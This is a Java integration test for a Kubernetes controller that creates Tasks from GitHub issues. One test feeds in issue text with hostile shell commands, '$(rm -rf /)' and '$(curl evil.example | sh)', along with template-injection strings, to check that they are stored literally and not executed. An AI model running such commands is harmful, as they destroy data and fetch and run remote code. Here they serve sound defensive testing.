package io.axon.controller.it;

import static io.axon.controller.spawner.SpawnerChecks.assertSpawnedFromTemplate;
import static io.axon.controller.spawner.SpawnerChecks.condition;
import static io.axon.controller.spawner.SpawnerChecks.isFalse;
import static io.axon.controller.spawner.SpawnerChecks.isTrue;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.axon.api.v1alpha1.ApiGroup;
import io.axon.api.v1alpha1.Task;
import io.axon.api.v1alpha1.TaskPhase;
import io.axon.api.v1alpha1.TaskSpawner;
import io.axon.controller.observe.EventRecorder;
import io.axon.controller.spawner.SpawnerConditions;
import io.axon.controller.spawner.SpawnerFixtures;
import io.axon.controller.status.Conditions;
import io.axon.source.github.ScriptedGitHub;
import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.DeletionPropagation;
import io.fabric8.kubernetes.api.model.Event;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.vertx.core.Vertx;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Predicate;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * TaskSpawners on a real control plane: the controller runs as the {@code axon-controller} user
 * with only the shipped RBAC, polls a scripted GitHub on 127.0.0.1 through the real GitHub source,
 * and the Tasks it creates run as Jobs on kwok nodes; kube-controller-manager's garbage collector
 * deletes what a deleted spawner owned. Each test has its own namespace, GitHub and controller
 * (watching that namespace only), and its spawners poll every second.
 */
class TaskSpawnerIT {
  static final Duration TIMEOUT = Duration.ofSeconds(30);
  static final String TOKEN = SpawnerFixtures.TOKEN;
  static final String NEEDS_INPUT = "axon/needs-input";
  static final Set<String> WRITES = Set.of("POST", "PUT", "PATCH", "DELETE");

  static ControlPlane plane;
  static KubernetesClient client;
  static Vertx vertx;

  String ns;
  ScriptedGitHub github;
  KwokPods pods;
  final List<ControllerInstance> controllers = new ArrayList<>();

  @BeforeAll
  static void startControlPlane() {
    plane = ControlPlane.builder().jobLifecycle().start();
    client = plane.client();
    vertx = Vertx.vertx();
  }

  @AfterAll
  static void stopControlPlane() {
    if (vertx != null) {
      vertx.close().await();
    }
    if (plane != null) {
      plane.close();
    }
  }

  /** A namespace with Workspace "widgets" and its Secret, and a GitHub with acme/widgets. */
  void prepare(String namespace, String token) throws Exception {
    ns = plane.createNamespace(namespace);
    pods = new KwokPods(client, ns);
    github = ScriptedGitHub.start(vertx, "acme", "widgets");
    client.resource(SpawnerFixtures.workspace(ns)).create();
    client.resource(SpawnerFixtures.secret(ns, token)).create();
  }

  /** A controller for this test's namespace, its githubIssues source on the scripted GitHub. */
  ControllerInstance startController() {
    JsonObject settings =
        new JsonObject()
            .put("namespaces", new JsonArray().add(ns))
            .put(
                "sources",
                new JsonObject()
                    .put("githubIssues", new JsonObject().put("apiBaseURL", github.baseURL())));
    ControllerInstance controller = new ControllerInstance(plane, settings);
    controllers.add(controller);
    return controller;
  }

  @AfterEach
  void stopTestsOwn() throws Exception {
    controllers.forEach(ControllerInstance::close);
    if (pods != null) {
      pods.close();
    }
    if (github != null) {
      github.close();
    }
  }

  @Test
  void matchingIssuesBecomeTasksOwnedByTheSpawnerWithTheirTextInsertedLiterally() throws Exception {
    prepare("spawn", TOKEN);
    String hostileTitle =
        "{{.Body}} $(rm -rf /) `id` \"double\" 'single' ${HOME} \\ back\\slash }} {{ .URL }}";
    String hostileBody =
        "line one\nline two\r\n{{ .Title }} {{if .Body}} {{\n$(curl evil.example | sh); exit 1\n"
            + "\tGrüße, 日本語, emoji 🚀, RTL \u202Eabc\u202C, zero-width \u200B.\n--\n";
    github.addIssue("Crash on start", "It crashes.", "bug");
    github.addIssue("Needs a human", "?", "bug", NEEDS_INPUT);
    github.addIssue("Add dark mode", "Please", "enhancement");
    github.addPullRequest("Fix crash", "bug");
    github.addIssue(hostileTitle, hostileBody, "bug", "ui");
    TaskSpawner spawner =
        SpawnerFixtures.spawner(ns, "fix-bugs", List.of("bug"), List.of(NEEDS_INPUT));
    spawner.getSpec().getTaskTemplate().setModel("claude-sonnet-4-20250514");
    spawner.getSpec().getTaskTemplate().setActiveDeadlineSeconds(1800L);
    TaskSpawner created = client.resource(spawner).create();
    Instant before = Instant.now().minusSeconds(1);
    ControllerInstance controller = startController();

    awaitTaskNames(names -> names.size() >= 2, "two Tasks");
    polls("fix-bugs").await(3);
    assertThat(taskNames())
        .as("neither the pull request #4, the excluded #2 nor the unlabelled #3")
        .containsExactly("fix-bugs-1", "fix-bugs-5");

    for (String name : List.of("fix-bugs-1", "fix-bugs-5")) {
      assertSpawnedFromTemplate(task(name), created, name.substring("fix-bugs-".length()));
    }
    assertThat(task("fix-bugs-1").getSpec().getPrompt())
        .isEqualTo("Fix: Crash on start\nIt crashes.");
    // Stored and read back by the API server: still byte for byte what the issue said.
    String expected = "Fix: " + hostileTitle + "\n" + hostileBody;
    assertThat(task("fix-bugs-5").getSpec().getPrompt().getBytes(StandardCharsets.UTF_8))
        .isEqualTo(expected.getBytes(StandardCharsets.UTF_8));

    // The Tasks run (kwok plays their pods to Succeeded), and the next poll counts them finished.
    awaitPhase("fix-bugs-1", TaskPhase.Succeeded);
    awaitPhase("fix-bugs-5", TaskPhase.Succeeded);
    TaskSpawner polled =
        awaitSpawner(
            "fix-bugs",
            s ->
                Long.valueOf(2).equals(s.getStatus().getTasksCreated())
                    && Integer.valueOf(0).equals(s.getStatus().getActiveTasks()));
    assertThat(polled.getStatus().getItemsFound()).isEqualTo(2);
    assertThat(Instant.parse(polled.getStatus().getLastPollTime()))
        .isAfter(before)
        .isBeforeOrEqualTo(Instant.now());
    assertThat(polled.getStatus().getObservedGeneration())
        .isEqualTo(polled.getMetadata().getGeneration());
    Condition ready = condition(polled, SpawnerConditions.READY);
    assertThat(ready.getStatus()).isEqualTo(Conditions.TRUE);
    assertThat(ready.getReason()).isEqualTo(SpawnerConditions.REASON_POLLING);
    assertThat(ready.getMessage())
        .isEqualTo("Polling githubIssues of Workspace \"widgets\" every 30s");
    Condition source = condition(polled, SpawnerConditions.SOURCE_HEALTHY);
    assertThat(source.getStatus()).isEqualTo(Conditions.TRUE);
    assertThat(source.getReason()).isEqualTo(SpawnerConditions.REASON_POLLED);

    // Status only through the status subresource; the spawner itself is never written.
    assertThat(controller.requests.count("PUT", "taskspawners/status", 200)).isPositive();
    assertThat(
            controller.requests.count(
                c -> c.resource().equals("taskspawners") && WRITES.contains(c.method())))
        .isZero();
    assertThat(controller.requests.count(c -> c.code() == 403)).as("refused requests").isZero();

    List<Event> events =
        KubernetesEvents.await(
            client, polled, TIMEOUT, "two TaskCreated Events", e -> e.size() >= 2);
    assertThat(events)
        .extracting(Event::getType, Event::getReason, Event::getMessage)
        .containsExactlyInAnyOrder(
            tuple("Normal", "TaskCreated", "Created Task fix-bugs-1"),
            tuple("Normal", "TaskCreated", "Created Task fix-bugs-5"));

    ScriptedGitHub.Recorded request = github.requests().get(0);
    assertThat(request.header("Authorization")).isEqualTo("Bearer " + TOKEN);
    assertThat(request.params().get("labels")).isEqualTo("bug");
  }

  @Test
  void aRestartedControllerFindsItsTasksAndCreatesOnlyTheNewOne() throws Exception {
    prepare("restart", TOKEN);
    github.addIssue("One", "1", "bug");
    github.addIssue("Two", "2", "bug");
    github.addIssue("Three", "3", "bug");
    client.resource(SpawnerFixtures.spawner(ns, "restart", List.of(), List.of())).create();

    Map<String, String> uids;
    try (ControllerInstance first = startController()) {
      awaitTaskNames(names -> names.size() == 3, "three Tasks");
      awaitSpawner("restart", s -> Long.valueOf(3).equals(s.getStatus().getTasksCreated()));
      uids = uids();
      assertThat(first.requests.count("POST", "tasks", 201)).isEqualTo(3);
    }
    github.addIssue("Four", "4", "bug"); // while no controller runs

    ControllerInstance second = startController();
    awaitTaskNames(names -> names.size() == 4, "the Task of the new issue");
    polls("restart").await(5);

    assertThat(taskNames()).containsExactly("restart-1", "restart-2", "restart-3", "restart-4");
    assertThat(uids()).containsAllEntriesOf(uids);
    Map<String, Long> tasksPerItem =
        client.resources(Task.class).inNamespace(ns).list().getItems().stream()
            .collect(
                Collectors.groupingBy(
                    t -> t.getMetadata().getLabels().get(ApiGroup.ITEM_LABEL),
                    Collectors.counting()));
    assertThat(tasksPerItem).isEqualTo(Map.of("1", 1L, "2", 1L, "3", 1L, "4", 1L));
    assertThat(
            second.requests.count(c -> c.method().equals("POST") && c.resource().equals("tasks")))
        .as("Task creations by the restarted controller, refused ones included")
        .isEqualTo(1);
    assertThat(second.requests.count("POST", "tasks", 201)).isEqualTo(1);
    assertThat(
            awaitSpawner("restart", s -> Long.valueOf(4).equals(s.getStatus().getTasksCreated()))
                .getStatus()
                .getTasksCreated())
        .as("the count goes on from what the first controller wrote")
        .isEqualTo(4);
  }

  @Test
  void aDeletedFinishedTaskRunsAgainUnlessItsIssueWaitsForInput() throws Exception {
    prepare("requeue", TOKEN);
    github.addIssue("Flaky test", "It flakes.", "bug");
    client
        .resource(SpawnerFixtures.spawner(ns, "requeue", List.of(), List.of(NEEDS_INPUT)))
        .create();
    startController();

    String first = awaitPhase("requeue-1", TaskPhase.Succeeded).getMetadata().getUid();
    polls("requeue").await(3);
    assertThat(task("requeue-1").getMetadata().getUid())
        .as("a finished Task of a still-matching issue is left alone")
        .isEqualTo(first);

    // Deleting the finished Task lets the still-matching issue run again, under the same name.
    delete("requeue-1");
    Task again =
        polls("requeue")
            .until(
                "a second Task",
                () -> task("requeue-1"),
                t -> !t.getMetadata().getUid().equals(first));
    String second = again.getMetadata().getUid();
    awaitPhase("requeue-1", TaskPhase.Succeeded);
    assertThat(client.batch().v1().jobs().inNamespace(ns).withName("requeue-1").get())
        .satisfies(
            job ->
                assertThat(job.getMetadata().getOwnerReferences().get(0).getUid())
                    .as("the Job of the second Task")
                    .isEqualTo(second));

    // The agent asks for input: the excluded label keeps the issue out, even with no Task.
    github.edit(1, i -> i.put("labels", ScriptedGitHub.labelObjects("bug", NEEDS_INPUT)));
    polls("requeue")
        .until(
            "no item found",
            () -> spawner("requeue"),
            s -> s.getStatus() != null && Integer.valueOf(0).equals(s.getStatus().getItemsFound()));
    delete("requeue-1");
    Eventually.await(
        TIMEOUT, "Task requeue-1 deleted", () -> task("requeue-1") == null, gone -> gone);
    polls("requeue").await(5);
    assertThat(taskNames()).as("Tasks while the issue waits for input").isEmpty();

    // A human answers and removes the label: the next poll brings the issue back.
    github.edit(1, i -> i.put("labels", ScriptedGitHub.labelObjects("bug")));
    Task third =
        polls("requeue")
            .until(
                "a third Task",
                () -> task("requeue-1"),
                t -> !Set.of(first, second).contains(t.getMetadata().getUid()));
    assertThat(third.getSpec().getPrompt()).isEqualTo("Fix: Flaky test\nIt flakes.");
    assertThat(
            awaitSpawner("requeue", s -> Long.valueOf(3).equals(s.getStatus().getTasksCreated()))
                .getStatus()
                .getItemsFound())
        .isEqualTo(1);
  }

  @Test
  void maxConcurrencyBoundsTheUnfinishedTasks() throws Exception {
    prepare("bounded", TOKEN);
    github.addIssue("First", "1", "bug");
    github.addIssue("Second", "2", "bug");
    github.addIssue("Third", "3", "bug");
    pods.runFor("bounded-3", "4s");
    pods.keepRunning("bounded-2");
    pods.keepRunning("bounded-1");
    TaskSpawner spawner = SpawnerFixtures.spawner(ns, "bounded", List.of(), List.of());
    spawner.getSpec().setMaxConcurrency(1);
    client.resource(spawner).create();
    startController();

    // Items come newest first (GitHub sorts by update): #3 is the first Task.
    awaitPhase("bounded-3", TaskPhase.Running);
    polls("bounded").await(3);
    assertThat(task("bounded-3").getStatus().getPhase())
        .as("still running (else this checks nothing)")
        .isEqualTo(TaskPhase.Running);
    assertThat(taskNames()).containsExactly("bounded-3");
    awaitSpawner("bounded", s -> Integer.valueOf(1).equals(s.getStatus().getActiveTasks()));

    // Its pod ends: that makes room for exactly one more.
    awaitPhase("bounded-3", TaskPhase.Succeeded);
    awaitPhase("bounded-2", TaskPhase.Running);
    polls("bounded").await(5);
    assertThat(taskNames()).containsExactly("bounded-2", "bounded-3");
    TaskSpawner status =
        awaitSpawner(
            "bounded",
            s ->
                Long.valueOf(2).equals(s.getStatus().getTasksCreated())
                    && Integer.valueOf(1).equals(s.getStatus().getActiveTasks()));
    assertThat(status.getStatus().getItemsFound()).isEqualTo(3);
  }

  @Test
  void aRefusedTokenIsAConditionAndAWarningEventThatNeverShowTheToken() throws Exception {
    String wrong = "ghp_Wr0ngT0kenValue0123456789abcdefXYZ";
    prepare("auth", wrong);
    github.addIssue("Crash", "x", "bug");
    github.requireToken(TOKEN);
    client.resource(SpawnerFixtures.spawner(ns, "auth", List.of(), List.of())).create();
    ControllerInstance controller = startController();

    TaskSpawner refused = awaitSpawner("auth", s -> isFalse(s, SpawnerConditions.SOURCE_HEALTHY));
    Condition source = condition(refused, SpawnerConditions.SOURCE_HEALTHY);
    assertThat(source.getReason()).isEqualTo("Unauthorized");
    assertThat(source.getMessage())
        .isEqualTo(
            "GitHub rejected the token (GITHUB_TOKEN in the Workspace's Secret): check that"
                + " it is valid and not expired");
    assertThat(condition(refused, SpawnerConditions.READY).getStatus())
        .as("the spawner itself is fine")
        .isEqualTo(Conditions.TRUE);
    assertThat(refused.getStatus().getLastPollTime()).isNotNull();

    // Every failed poll records the same Warning: one Event, counted up (a PATCH the RBAC allows).
    polls("auth").await(2);
    List<Event> events =
        KubernetesEvents.await(
            client,
            refused,
            TIMEOUT,
            "a repeated SourceError",
            e -> !e.isEmpty() && e.get(0).getCount() != null && e.get(0).getCount() >= 3);
    assertThat(events).hasSize(1);
    Event warning = events.get(0);
    assertThat(warning.getType()).isEqualTo("Warning");
    assertThat(warning.getReason()).isEqualTo(EventRecorder.SOURCE_ERROR);
    assertThat(warning.getMessage()).isEqualTo(source.getMessage());
    assertThat(warning.getInvolvedObject().getApiVersion()).isEqualTo(ApiGroup.API_VERSION);
    assertThat(warning.getInvolvedObject().getKind()).isEqualTo("TaskSpawner");
    assertThat(warning.getInvolvedObject().getName()).isEqualTo("auth");
    assertThat(warning.getInvolvedObject().getUid()).isEqualTo(refused.getMetadata().getUid());
    assertThat(warning.getReportingComponent()).isEqualTo(EventRecorder.COMPONENT);
    assertThat(warning.getReportingInstance()).isEqualTo(controller.identity());
    for (String token : List.of(wrong, TOKEN)) {
      assertThat(Serialization.asJson(client.v1().events().inNamespace(ns).list()))
          .doesNotContain(token);
      assertThat(Serialization.asJson(spawner("auth"))).doesNotContain(token);
    }
    assertThat(taskNames()).isEmpty();

    // A new token in the Secret is read on the next poll.
    SpawnerFixtures.replaceToken(client, ns, TOKEN);
    polls("auth").await(1); // A Secret's change sends no event: a poll asked for reads it.
    awaitTaskNames(names -> names.equals(List.of("auth-1")), "a Task with the new token");
    awaitSpawner("auth", s -> isTrue(s, SpawnerConditions.SOURCE_HEALTHY));
    assertThat(controller.requests.count(c -> c.code() == 403)).as("refused requests").isZero();
  }

  @Test
  void deletingTheSpawnerGarbageCollectsItsTasksAndTheirJobs() throws Exception {
    prepare("doomed", TOKEN);
    github.addIssue("One", "1", "bug");
    github.addIssue("Two", "2", "bug");
    pods.keepRunning("doomed-1");
    pods.keepRunning("doomed-2");
    client.resource(SpawnerFixtures.spawner(ns, "doomed", List.of(), List.of())).create();
    startController();
    awaitPhase("doomed-1", TaskPhase.Running);
    awaitPhase("doomed-2", TaskPhase.Running);

    client
        .resources(TaskSpawner.class)
        .inNamespace(ns)
        .withName("doomed")
        .withPropagationPolicy(DeletionPropagation.BACKGROUND)
        .delete();

    Eventually.await(
        TIMEOUT,
        "the spawner's Tasks, Jobs and pods to be garbage-collected",
        () ->
            taskNames().isEmpty()
                && client.batch().v1().jobs().inNamespace(ns).list().getItems().isEmpty()
                && client.pods().inNamespace(ns).list().getItems().isEmpty(),
        gone -> gone);
    int polls = github.requestCount();
    Eventually.sleep(1000);
    assertThat(github.requestCount()).as("polls after the spawner was deleted").isEqualTo(polls);
    assertThat(taskNames()).as("Tasks re-created for the deleted spawner").isEmpty();
  }

  // ---- helpers --------------------------------------------------------------------------------

  List<String> taskNames() {
    return client.resources(Task.class).inNamespace(ns).list().getItems().stream()
        .map(t -> t.getMetadata().getName())
        .sorted()
        .toList();
  }

  Map<String, String> uids() {
    return client.resources(Task.class).inNamespace(ns).list().getItems().stream()
        .collect(Collectors.toMap(t -> t.getMetadata().getName(), t -> t.getMetadata().getUid()));
  }

  void awaitTaskNames(Predicate<List<String>> condition, String what) {
    Eventually.await(TIMEOUT, what, this::taskNames, condition);
  }

  Task task(String name) {
    return client.resources(Task.class).inNamespace(ns).withName(name).get();
  }

  Task awaitTask(String name, Predicate<Task> condition, String what) {
    return Eventually.await(TIMEOUT, what, () -> task(name), condition);
  }

  Task awaitPhase(String name, TaskPhase phase) {
    return Eventually.await(
        TIMEOUT,
        "Task " + name + " " + phase,
        () -> task(name),
        t -> t.getStatus() != null && t.getStatus().getPhase() == phase);
  }

  void delete(String name) {
    client.resources(Task.class).inNamespace(ns).withName(name).delete();
  }

  TaskSpawner spawner(String name) {
    return client.resources(TaskSpawner.class).inNamespace(ns).withName(name).get();
  }

  TaskSpawner awaitSpawner(String name, Predicate<TaskSpawner> condition) {
    return Eventually.await(
        TIMEOUT,
        "TaskSpawner " + name + " status",
        () -> spawner(name),
        s -> s.getStatus() != null && condition.test(s));
  }

  /** Polls of this spawner asked for by the test. */
  SpawnerPolls polls(String spawner) {
    return new SpawnerPolls(client, ns, spawner, github::requestCount, TIMEOUT);
  }
}
